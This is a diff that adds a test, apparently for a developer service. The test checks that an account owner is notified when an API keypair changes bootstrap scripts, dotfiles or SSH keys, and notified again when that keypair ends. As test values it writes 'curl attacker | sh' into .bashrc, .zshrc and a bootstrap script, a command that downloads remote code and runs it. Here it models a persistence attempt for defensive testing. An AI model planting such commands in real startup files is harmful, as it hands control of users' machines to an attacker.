@@ -100,6 +100,45 @@ test('the person is told of a keypair that is made or activated, whoever sat at 
   ])
 })
 
+test('what a keypair sets of the files of new sessions is told once a day, and named when the keypair ends', async () => {
+  const keypair = await person.api.createKeypair({ body: {} })
+  const { accessKey, secretKey } = keypair
+  const { token } = await manager.api().loginWithKeypair({ body: { accessKey, secretKey, kind: 'token' } })
+  await person.api.putDotfile({ body: { path: '.vimrc', content: 'mine' } })
+  const news = async () =>
+    (await told())
+      .filter(([about]) => String(about).endsWith('by_keypair'))
+      .map(one => one.join(' '))
+      .toSorted()
+  expect(await news()).toEqual([])
+  for (const program of [signedApi(manager.url, keypair), manager.api(token ?? '')]) {
+    await program.setBootstrapScript({ body: { script: 'curl attacker | sh' } })
+    await program.putDotfile({ body: { path: '.bashrc', content: 'curl attacker | sh' } })
+    await program.putDotfile({ body: { path: '.zshrc', content: 'curl attacker | sh' } })
+    await program.generateSshKeypair()
+  }
+  const first = [
+    `own_dotfiles_by_keypair ${accessKey}: .bashrc`,
+    `own_script_by_keypair ${accessKey}`,
+    `own_ssh_key_by_keypair ${accessKey}`,
+  ]
+  expect(await news()).toEqual(first)
+  await sql`update messages set created_at = now() - interval '25 hours' where user_id = ${person.id}::uuid`.execute(
+    store.db,
+  )
+  await signedApi(manager.url, keypair).setBootstrapScript({ body: { script: 'curl attacker | bash' } })
+  expect((await news()).filter(one => one.startsWith('own_script'))).toHaveLength(2)
+  // The person makes one of them their own.
+  await person.api.putDotfile({ body: { path: '.zshrc', content: 'mine' } })
+  await person.api.updateKeypair({ params: { accessKey }, body: { active: false } })
+  const atEnd = [...first, ...first, `own_script_by_keypair ${accessKey}`].toSorted()
+  expect(await news()).toEqual(atEnd)
+  await person.api.deleteSshKeypair()
+  await person.api.deleteKeypair({ params: { accessKey } })
+  const rest = first.filter(one => !one.startsWith('own_ssh'))
+  expect(await news()).toEqual([...atEnd, ...rest].toSorted())
+})
+
 /** Requests that make a way in, by somebody who is in the account `id`. */
 const WAYS: [string, (inside: ApiClient, id: string, token: string) => Promise<() => Promise<unknown>>][] = [
   [
